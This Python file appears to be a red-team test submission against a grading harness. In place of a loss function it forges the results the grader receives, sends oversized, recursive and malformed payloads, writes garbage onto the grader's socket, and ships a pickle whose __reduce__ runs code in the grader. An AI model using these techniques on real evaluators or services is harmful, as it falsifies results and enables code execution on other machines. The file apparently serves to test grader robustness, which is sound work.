# redteam: exercise=ex01 score=0 timeout=3 mentions=uses `import gc`
"""Rewrites the worker from inside to forge what the grader receives: a zero-stride tensor
view that claims a billion elements, an overlapping view of the right shape, lists nested
100 deep, a list that contains itself, an unhashable reply kind, a frame header claiming an
exabyte, a pickle that would run code, and raw garbage straight onto the grader's socket.
Each check's first call (told apart by its input's shape) gets a different forgery."""
import gc
import pickle
import socket
import struct
import sys

import torch


def nested(depth):
    value = [1.0]
    for _ in range(depth):
        value = [value]
    return value


def loop():
    value = []
    value.append(value)
    return value


class Exploit:
    def __reduce__(self):
        return (print, ("code ran in the grader",))


FORGED = {
    (4,): lambda: {"kind": "tensor", "value": torch.zeros(1).as_strided((1 << 30,), (0,)), "device": "cpu"},
    (5, 3): lambda: {"kind": "tensor", "value": torch.zeros(1).as_strided((5, 3), (0, 0)), "device": "cpu"},
    (1,): lambda: {"kind": "python", "value": nested(100)},
    (6, 2): lambda: {"kind": "python", "value": loop()},
    (4, 3): lambda: {"kind": ["tensor"], "value": None},
}
RAW = {
    (4, 1): struct.pack(">Q", 1 << 60),
    (3,): struct.pack(">Q", 64) + pickle.dumps({"kind": "tensor", "value": Exploit()}).ljust(64, b"\0"),
}


def the_socket():
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            return obj
    return None


def mse_loss(input, target, reduction="mean"):
    shape = tuple(input.shape)
    if shape in FORGED:
        forged = FORGED[shape]()
        sys.modules["_results"].describe = lambda out: forged
        return input
    the_socket().sendall(RAW.get(shape, struct.pack(">Q", 16) + b"\x00garbage\x1b[2J!!"))
    return torch.zeros(()) + 9
